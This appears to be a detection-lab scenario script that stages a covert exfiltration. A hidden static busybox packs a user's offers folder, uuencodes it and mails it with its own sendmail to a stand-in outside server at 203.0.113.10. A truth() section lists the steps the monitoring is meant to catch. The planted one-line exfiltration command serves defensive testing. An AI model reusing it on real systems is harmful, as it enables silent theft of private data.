# One static program that packs, encodes and mails.
title="A static busybox packs a folder, encodes it and mails it with its own sendmail"
what="Somebody with buyer's login has a static busybox with a sendmail applet in ~/.cache/.b. Under nohup one line of its shell packs ~/offers with its tar, encodes it with its uuencode and hands it to its sendmail, which speaks SMTP to 203.0.113.10 port 25 itself. No program of the host takes part."
host=ws3.example.org user=buyer daemons="cron sshd" audit_rules=audit-wide.rules

setup() {
  local built=${LAB_DEBS:-/var/cache/watchpost-lab}/busybox-with-sendmail
  [ -x "$built" ] || { note "no $built: Debian's busybox has no sendmail; lab/README.md says how to build one"; return 1; }
  mkdir -p /home/buyer/.cache/.b /home/buyer/offers; head -c 70000 /dev/urandom > /home/buyer/offers/2027.ods
  install -m 755 "$built" /home/buyer/.cache/.b/busybox
  printf 'cd $HOME\nB=.cache/.b/busybox\n{ echo "Subject: o"; echo; $B tar -czf - offers | $B uuencode o.tgz; } | $B sendmail -S 203.0.113.10:25 -f buyer@example.net drawer@example.net\n' > /home/buyer/.cache/.b/o
  chown -R buyer: /home/buyer/.cache /home/buyer/offers
}
act() {
  small_talk 2
  ssh_run buyer 'nohup .cache/.b/busybox sh .cache/.b/o >/dev/null 2>&1 & sleep 5'
  small_talk 1
}
truth() {
  exec_step start 'busybox sh .cache/.b/o' 'the line starts, under nohup'
  exec_step pack 'busybox tar -czf - offers' 'a folder is packed'
  exec_step send 'busybox sendmail -S 203.0.113.10:25' 'a sendmail of its own'
  net_step connect 'busybox 203.0.113.10:25' 'straight to an outside server'
}
